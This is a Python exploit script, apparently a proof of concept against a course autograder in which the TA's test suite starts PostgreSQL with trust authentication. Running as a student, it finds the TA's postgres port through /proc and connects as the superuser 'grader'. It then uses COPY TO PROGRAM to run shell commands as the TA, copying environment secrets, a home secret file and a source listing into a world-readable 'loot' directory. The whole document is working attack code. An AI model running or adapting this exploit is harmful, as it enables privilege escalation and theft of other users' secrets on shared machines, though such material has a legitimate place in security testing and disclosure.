"""Run as the student's host account (uid 65000) while the TA (uid 65534) runs `make test`.

tests/test_grade_postgres.py starts a PostgreSQL cluster as the TA: `initdb -A trust -U grader`, listening on
127.0.0.1:<port> (the port is on the postgres process's command line, which every user reads). Trust
authentication on a TCP listener: any local account logs in as the superuser `grader`, and a superuser's
`COPY ... TO PROGRAM` runs a shell command as the server's OS user, the TA.
"""
import datetime, os, re, sys, time
import psycopg2

LOOT = "/tmp/r55-loot2"
os.makedirs(LOOT, exist_ok=True); os.chmod(LOOT, 0o777)
TA_UID = 65534
CMD = (f"mkdir {LOOT}/once-$PPID 2>/dev/null && (date; echo '--- id'; id; echo '--- env of the TA postgres';"
       f" env | grep -E 'SECRET|DATABASE|HOME|TMPDIR|USER';"
       f" echo '--- TA home secret'; cat NOTES/home/secret.txt;"
       f" echo '--- source/'; ls -la CLONE/source/ps1_memory) > {LOOT}/ran-as-ta.$$.txt 2>&1;"
       f" chmod 644 {LOOT}/ran-as-ta.$$.txt")


def ta_postgres():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            if os.stat(f"/proc/{pid}").st_uid != TA_UID:
                continue
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        words = [w.decode(errors="replace") for w in cmd]
        if words and words[0].endswith("/postgres") and "-p" in words:
            yield int(words[words.index("-p") + 1]), " ".join(words)


log = open(f"{LOOT}/attacker.log", "a", buffering=1)
log.write(f"{datetime.datetime.now()} uid={os.getuid()} watching for the TA's postgres\n")
done = set()
deadline = time.time() + float(sys.argv[1] if len(sys.argv) > 1 else 1800)
while time.time() < deadline:
    for port, cmd in list(ta_postgres()):
        if port in done:
            continue
        try:
            conn = psycopg2.connect(host="127.0.0.1", port=port, user="grader", dbname="postgres", connect_timeout=2)
        except Exception as exc:
            log.write(f"{datetime.datetime.now()} {port}: {exc!r}\n")
            continue
        done.add(port)
        conn.autocommit = True
        cur = conn.cursor()
        cur.execute("select current_user, usesuper from pg_user where usename = current_user")
        log.write(f"{datetime.datetime.now()} connected to the TA's postgres ({cmd}) as {cur.fetchone()}\n")
        cur.execute("COPY (SELECT 1) TO PROGRAM %s", (CMD,))
        log.write(f"{datetime.datetime.now()} COPY TO PROGRAM ran\n")
        cur.execute("select datname from pg_database")
        log.write(f"  databases: {cur.fetchall()}\n")
        conn.close()
    time.sleep(0.02)
